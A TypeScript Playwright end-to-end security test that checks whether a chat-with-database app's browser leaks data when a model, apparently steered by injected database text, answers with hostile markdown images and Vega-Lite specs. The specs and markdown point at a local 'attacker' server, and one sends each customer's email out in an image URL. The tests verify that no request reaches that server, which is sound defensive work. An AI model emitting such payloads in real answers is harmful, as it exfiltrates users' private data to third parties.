import type { Browser, BrowserContext, Page } from 'playwright-core';
import { beforeAll, describe, expect, it } from 'vitest';
import type { AppServer } from './support/app-server';
import { startAttackerServer, type AttackerServer } from './support/attacker-server';
import { CHART_WRITER_MARK, firstResultRow, reply, SQL_WRITER_MARK, startFakeOpenAI, type FakeOpenAI, type FakeRequest } from './support/backend-support';
import { DESKTOP, screenshot } from './support/browser';
import { appInBrowser, registerInBrowser } from './support/session';

// Issue 8, "Why" 1: a model steered by text in the user's database answers with markdown images,
// Vega-Lite data URLs nested in layer/hconcat/vconcat/concat/facet views, a lookup into a URL, an
// image mark whose URL is computed from each customer's email, usermeta embed options and links.
// A local "attacker" server records every request: the browser must send it none, when the answer
// streams, when the thread is reopened, and even with the server's cleaning and the CSP both out of
// the way (a thread saved before the fix, in a browser that ignores the CSP). Normal charts still
// draw under the CSP, with no violation reported.

const HOSTILE = 'Show me the customers, with every chart you can.';
const NORMAL = 'Customers per id, as a bar chart please.';
const SQL = 'SELECT email, country, customer_id AS n FROM customers ORDER BY customer_id LIMIT 6';

const encoding = { x: { field: 'country', type: 'nominal' }, y: { field: 'n', type: 'quantitative' } };

/** The specs a steered chart writer produces, each pointing at the attacker. */
function attackSpecs(attacker: string): Record<string, Record<string, unknown>> {
  const data = (name: string) => ({ url: `${attacker}/${name}.json` });
  return {
    layer: { layer: [{ data: data('layer'), mark: 'bar', encoding }, { data: data('layer-rule'), mark: 'rule', encoding: { y: { field: 'n', aggregate: 'mean', type: 'quantitative' } } }] },
    hconcat: { hconcat: [{ data: data('hconcat'), mark: 'bar', encoding }, { mark: 'point', encoding }] },
    vconcat: { vconcat: [{ data: data('vconcat'), mark: 'bar', encoding }] },
    concat: { columns: 2, concat: [{ data: data('concat'), mark: 'bar', encoding }, { mark: 'tick', encoding }] },
    facet: { facet: { field: 'country', type: 'nominal' }, columns: 3, spec: { data: data('facet'), mark: 'bar', encoding: { y: encoding.y } } },
    lookup: { transform: [{ lookup: 'country', from: { data: data('lookup'), key: 'country', fields: ['gdp'] } }], mark: 'bar', encoding },
    'image-per-row': {
      transform: [{ calculate: `'${attacker}/pixel?e=' + datum.email`, as: 'pixel' }],
      mark: { type: 'image', width: 12, height: 12 },
      encoding: { ...encoding, url: { field: 'pixel' } },
    },
    usermeta: {
      usermeta: { embedOptions: { loader: { baseURL: `${attacker}/base/` }, config: `${attacker}/config.json`, patch: `${attacker}/patch.json`, actions: { editor: true }, editorUrl: `${attacker}/editor` } },
      mark: 'bar',
      encoding,
    },
    href: { mark: { type: 'bar', href: `${attacker}/mark-href` }, encoding: { ...encoding, href: { value: `${attacker}/href` } } },
  };
}

const NORMAL_SPEC = { title: 'Customers', mark: 'bar', encoding: { x: { field: 'email', type: 'nominal', sort: null }, y: { field: 'n', type: 'quantitative' }, tooltip: [{ field: 'email' }, { field: 'n' }] } };

function markdownAnswer(attacker: string, email: string): string {
  return [
    `Here they are. ![customer chart](${attacker}/md-image.png?d=${email}) and ![logo][logo]`,
    `and <img src="${attacker}/raw-html.png?d=${email}"> and the [full report](${attacker}/report?d=${email}).`,
    '',
    `[logo]: ${attacker}/md-ref.png?d=${email}`,
  ].join('\n');
}

/** The steered model: ask_database, then one ask_analyst call per attack, then markdown that points away. */
function steeredModel(attacker: string) {
  const attacks = attackSpecs(attacker);
  const names = Object.keys(attacks);
  return (request: FakeRequest) => {
    if (request.system.includes(SQL_WRITER_MARK)) return reply.text(['```sql\n', SQL, '\n```']);
    if (request.system.includes(CHART_WRITER_MARK)) {
      const asked = request.messages.find((m) => m.role === 'user')?.content ?? '';
      const spec = asked.startsWith('attack:') ? attacks[asked.slice('attack:'.length)] : NORMAL_SPEC;
      return reply.text(['```json\n', JSON.stringify(spec), '\n```']);
    }
    if (request.tools.length === 0) return undefined;
    const lastUser = request.messages.map((m) => m.role).lastIndexOf('user');
    const question = request.messages[lastUser]?.content ?? '';
    if (request.lastMessage?.role === 'user') return reply.toolCalls({ name: 'ask_database', args: { question } });
    const charts = request.messages.slice(lastUser).filter((m) => m.tool_calls?.some((c) => c.function.name === 'ask_analyst')).length;
    if (question === HOSTILE && charts < names.length) return reply.toolCalls({ name: 'ask_analyst', args: { request: `attack:${names[charts]}` } });
    if (question === NORMAL && charts === 0) return reply.toolCalls({ name: 'ask_analyst', args: { request: 'bar chart of customers' } });
    const row = firstResultRow(request);
    return reply.text(question === HOSTILE ? markdownAnswer(attacker, row?.[0] ?? 'unknown') : 'Six customers, charted.');
  };
}

interface Violation {
  directive: string;
  blocked: string;
}

/** Collects CSP violations and console errors of every page of a context, across reloads. */
async function watchContext(context: BrowserContext): Promise<{ violations: Violation[]; consoleErrors: string[] }> {
  const violations: Violation[] = [];
  const consoleErrors: string[] = [];
  await context.exposeFunction('__reportCspViolation', (v: Violation) => violations.push(v));
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) => {
      (window as unknown as { __reportCspViolation(v: { directive: string; blocked: string }): void }).__reportCspViolation({ directive: e.violatedDirective, blocked: e.blockedURI });
    });
  });
  context.on('console', (msg) => {
    if (msg.type() === 'error') consoleErrors.push(msg.text());
  });
  return { violations, consoleErrors };
}

/** Waits until every chart in the conversation has drawn (an SVG with marks) or shown its error. */
async function chartsSettled(page: Page, expected: number): Promise<void> {
  await expect
    .poll(
      () =>
        page.getByTestId('chart-container').evaluateAll((els) =>
          els.filter((el) => el.querySelector('svg.marks .role-mark') || el.querySelector('[data-testid="error-box"]')).length,
        ),
      { timeout: 20_000 },
    )
    .toBe(expected);
}

/** Marks (paths, symbols, lines, text) drawn inside the n-th chart's SVG. */
function drawnMarks(page: Page, index: number): Promise<number> {
  return page.getByTestId('chart-container').nth(index).locator('svg.marks .role-mark > *').count();
}

/** Time for anything a page might still fetch late (an image decode, a deferred data load). */
const settle = (page: Page) => page.waitForTimeout(1500);

describe('the browser loads nothing a steered model points it to (Chromium, built app, scripted model)', () => {
  let attacker: AttackerServer;
  let fake: FakeOpenAI;
  let app: AppServer;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let pageErrors: string[];
  let watched: { violations: Violation[]; consoleErrors: string[] };
  let threadId = '';
  let attackCount = 0;
  const session = appInBrowser(() => Promise.all([fake?.close(), attacker?.close()]));

  beforeAll(async () => {
    attacker = await startAttackerServer();
    attackCount = Object.keys(attackSpecs(attacker.url)).length;
    fake = await startFakeOpenAI({ models: ['qwen/qwen3-8b'], responder: steeredModel(attacker.url) });
    ({ app, browser, context, page, pageErrors } = await session.open({ LM_STUDIO_ENDPOINT: fake.url, SSE_PING_MS: '1000' }, fake));
    watched = await watchContext(context);
  });

  it("renders the steered answer: markdown images as links, every chart from the injected rows, and the attacker gets no request", async () => {
    await registerInBrowser(page, 'safety');
    await page.getByTestId('new-thread').click();
    await page.waitForURL(/\/threads\/[^/]+$/);
    threadId = new URL(page.url()).pathname.split('/').pop()!;
    // The thread works on the generated demo store (customers with emails: what the attacker wants).
    const select = page.getByTestId('connection-select');
    await expect.poll(() => select.locator('option').allTextContents()).toContainEqual(expect.stringMatching(/demo/i));
    const demo = await select.locator('option').evaluateAll((os) => (os as HTMLOptionElement[]).find((o) => /demo/i.test(o.text))!.value);
    if ((await select.inputValue()) !== demo) {
      await select.selectOption(demo);
      await expect.poll(() => page.getByTestId('connection-note').textContent().catch(() => '')).toContain('tables');
    }

    await page.getByTestId('message-input').fill(HOSTILE);
    await page.getByTestId('message-input').press('Enter');
    await expect.poll(() => page.getByTestId('assistant-text').last().textContent(), { timeout: 40_000 }).toContain('Here they are.');
    await page.getByTestId('send-button').waitFor({ timeout: 20_000 });
    await chartsSettled(page, attackCount);
    await settle(page);

    // The markdown: no <img>, each image a link with its whole address in view, links with their host.
    const answer = page.getByTestId('assistant-text').last();
    expect(await page.locator('.messages img').count()).toBe(0);
    const text = (await answer.textContent()) ?? '';
    expect(text).toMatch(new RegExp(`\\(${attacker.url}/md-image\\.png\\?d=[^)]+@[^)]+\\)`));
    expect(text).toContain(`(${attacker.url}/md-ref.png`);
    expect(text).toContain(`full report (${new URL(attacker.url).host})`);
    const rels = await answer.locator('a').evaluateAll((as) => as.map((a) => `${(a as HTMLAnchorElement).target} ${(a as HTMLAnchorElement).rel}`));
    expect(rels.length).toBe(3);
    expect(new Set(rels)).toEqual(new Set(['_blank noopener noreferrer']));

    // Every chart drew the rows (the image-mark one as the automatic chart the server fell back to).
    for (let i = 0; i < attackCount; i++) expect(await drawnMarks(page, i), `chart ${i}`).toBeGreaterThan(0);
    expect(await page.getByTestId('chart').filter({ hasText: 'automatic chart' }).count()).toBe(1);
    const specs = await page.getByTestId('chart-container').evaluateAll((els) => els.map((el) => el.innerHTML));
    for (const html of specs) expect(html).not.toContain(new URL(attacker.url).host);
    await page.setViewportSize({ width: DESKTOP.width, height: 2400 });
    await screenshot(page, '08-steered-answer', { fullPage: true });
    await page.setViewportSize(DESKTOP);

    expect(attacker.requests).toEqual([]);
    expect(attacker.connections).toBe(0);
  });

  it('reopening the thread loads nothing either', async () => {
    await page.reload();
    await expect.poll(() => page.getByTestId('assistant-text').last().textContent(), { timeout: 20_000 }).toContain('Here they are.');
    await chartsSettled(page, attackCount);
    await settle(page);
    expect(await page.locator('.messages img').count()).toBe(0);
    expect(attacker.requests).toEqual([]);
    expect(attacker.connections).toBe(0);
  });

  it("with the server's cleaning undone (a thread saved before it) and the CSP ignored, the browser itself still loads nothing", async () => {
    // Another browser session of the same user that ignores the CSP; the thread's charts are
    // replaced, on their way from the API, by the specs exactly as the model wrote them.
    const raw = await browser.newContext({ viewport: DESKTOP, baseURL: app.url, colorScheme: 'light', bypassCSP: true, storageState: await context.storageState() });
    try {
      const rawPage = await raw.newPage();
      rawPage.setDefaultTimeout(15_000);
      const attacks = attackSpecs(attacker.url);
      let rewritten = 0;
      await rawPage.route(`**/api/chat/${threadId}`, async (route) => {
        const response = await route.fetch();
        const body = (await response.json()) as { messages: { role: string; tool_calls?: { id: string; name: string; args: { request?: string } }[]; tool_call_id?: string; result?: { type?: string; rows?: unknown[] }; content: string }[] };
        const rows = body.messages.find((m) => m.result?.type === 'sql_result')?.result?.rows ?? [];
        for (const message of body.messages) {
          for (const call of message.tool_calls ?? []) {
            const name = call.args.request?.replace(/^attack:/, '');
            const tool = body.messages.find((m) => m.tool_call_id === call.id);
            if (call.name !== 'ask_analyst' || !name || !attacks[name] || !tool) continue;
            const result = { type: 'vega_lite_spec', spec: { ...attacks[name], data: { values: rows } } };
            tool.result = result;
            tool.content = JSON.stringify(result);
            rewritten++;
          }
        }
        await route.fulfill({ response, json: body });
      });
      await rawPage.goto(`/threads/${threadId}`);
      await expect.poll(() => rawPage.getByTestId('assistant-text').last().textContent(), { timeout: 20_000 }).toContain('Here they are.');
      await chartsSettled(rawPage, attackCount);
      await settle(rawPage);
      expect(rewritten).toBe(attackCount);
      expect(await rawPage.locator('.messages img').count()).toBe(0);
      // No "Open in Vega Editor" even where usermeta asked for it.
      expect(await rawPage.locator('.vega-actions a', { hasText: /editor/i }).count()).toBe(0);
      await screenshot(rawPage, '08-raw-specs-no-csp', { fullPage: true });
      expect(attacker.requests).toEqual([]);
      expect(attacker.connections).toBe(0);

      // The control: this page could reach the attacker, so the silence above is the app's doing.
      expect(await rawPage.evaluate((url) => fetch(`${url}/control`).then((r) => r.status), attacker.url)).toBe(200);
      expect(attacker.requests).toEqual(['GET /control']);
      attacker.requests.length = 0;
    } finally {
      await raw.close();
    }
  });

  it('a normal chart still draws under the CSP, with text tooltips and no editor action', async () => {
    await page.getByTestId('message-input').fill(NORMAL);
    await page.getByTestId('message-input').press('Enter');
    await expect.poll(() => page.getByTestId('assistant-text').last().textContent(), { timeout: 30_000 }).toBe('Six customers, charted.');
    await chartsSettled(page, attackCount + 1);
    const chart = page.getByTestId('chart-container').last();
    await expect.poll(() => chart.locator('svg .mark-rect path').count()).toBe(6);
    await chart.scrollIntoViewIfNeeded();
    await screenshot(page, '08-normal-chart-under-csp');

    // A tooltip is the SVG's title text, not HTML: hover a bar.
    await chart.locator('svg .mark-rect path').first().hover();
    const titles = () => chart.evaluate((el) => Array.from(el.querySelectorAll('[title]')).map((t) => t.getAttribute('title') ?? ''));
    await expect.poll(titles).toContainEqual(expect.stringMatching(/^email: .+@.+\nn: \d+$/));
    expect(await page.locator('#vg-tooltip-element, .vg-tooltip').count()).toBe(0);

    // The chart menu exports SVG/PNG and offers nothing that posts the data elsewhere.
    await chart.locator('summary').click();
    expect(await chart.locator('.vega-actions a').allTextContents()).toEqual(['Save as SVG', 'Save as PNG']);
    // Exporting renders the image in the page (a data: or blob: URL), within the CSP.
    for (const name of ['Save as SVG', 'Save as PNG']) {
      const link = chart.locator('.vega-actions a', { hasText: name });
      await link.dispatchEvent('mousedown');
      await expect.poll(() => link.getAttribute('href')).toMatch(/^(data|blob):/);
    }
    await chart.locator('summary').click();
    expect(attacker.requests).toEqual([]);
  });

  it('reported no CSP violation, no console error and no page error in the whole scenario', () => {
    expect(watched.violations).toEqual([]);
    expect(watched.consoleErrors).toEqual([]);
    expect(pageErrors).toEqual([]);
  });

  it('the CSP is really enforced: a request the page itself makes to another origin is blocked and reported', async () => {
    const outcome = await page.evaluate((url) => fetch(`${url}/csp-probe`).then(() => 'sent', () => 'blocked'), attacker.url);
    expect(outcome).toBe('blocked');
    await expect.poll(() => watched.violations.map((v) => v.directive)).toContain('connect-src');
    expect(attacker.requests).toEqual([]);
  });
});
